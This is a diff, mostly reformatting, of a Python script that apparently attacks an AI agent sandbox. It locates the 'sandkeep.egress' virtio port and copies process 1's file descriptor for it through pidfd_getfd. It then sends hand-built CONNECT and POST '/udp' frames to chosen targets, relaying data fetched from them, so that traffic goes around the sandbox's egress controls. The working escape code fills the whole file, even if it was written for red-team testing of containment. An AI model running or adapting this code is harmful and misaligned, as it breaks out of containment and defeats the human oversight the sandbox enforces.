@@ -1,6 +1,12 @@
 """Takes the agent's own port and says on it what the agent would not. Arguments: addresses to connect to, and whether to break the contract at last."""
-import ctypes, sys; sys.path.insert(0, "/home/app")
-from attack import *
+
+import ctypes
+import json
+import os
+import sys
+import time
+
+from attack import get
 
 TARGETS, VIOLATION = json.loads(sys.argv[1]), sys.argv[2]
 PORT_NAME = "sandkeep.egress"
@@ -10,7 +16,11 @@ PIDFD_OPEN, PIDFD_GETFD = 434, 438
 
 def port():
     """A copy of the descriptor that process 1 has."""
-    device = next(name for name in os.listdir("/sys/class/virtio-ports") if open(f"/sys/class/virtio-ports/{name}/name").read().strip() == PORT_NAME)
+    device = next(
+        name
+        for name in os.listdir("/sys/class/virtio-ports")
+        if open(f"/sys/class/virtio-ports/{name}/name").read().strip() == PORT_NAME
+    )
     number = next(int(fd) for fd in os.listdir("/proc/1/fd") if os.readlink(f"/proc/1/fd/{fd}") == f"/dev/{device}")
     libc = ctypes.CDLL(None, use_errno=True)
     pidfd = libc.syscall(PIDFD_OPEN, 1, 0)
@@ -32,7 +42,7 @@ def write(fd, data):
     """The port does not wait; a frame must not be torn."""
     while data:
         try:
-            data = data[os.write(fd, data):]
+            data = data[os.write(fd, data) :]
         except BlockingIOError:
             time.sleep(0.01)
 
@@ -40,7 +50,10 @@ def write(fd, data):
 fd = port()
 stream = 1_000_001
 for target in TARGETS:
-    for fields in ([(":method", "CONNECT"), (":authority", target)], [(":method", "POST"), (":scheme", "http"), (":path", "/udp"), (":authority", target)]):
+    for fields in (
+        [(":method", "CONNECT"), (":authority", target)],
+        [(":method", "POST"), (":scheme", "http"), (":path", "/udp"), (":authority", target)],
+    ):
         write(fd, frame(1, 4, stream, b"".join(field(*one) for one in fields)))
         data = get(target, "/wire")
         write(fd, frame(0, 0, stream, data if fields[0][1] == "CONNECT" else len(data).to_bytes(2, "big") + data))
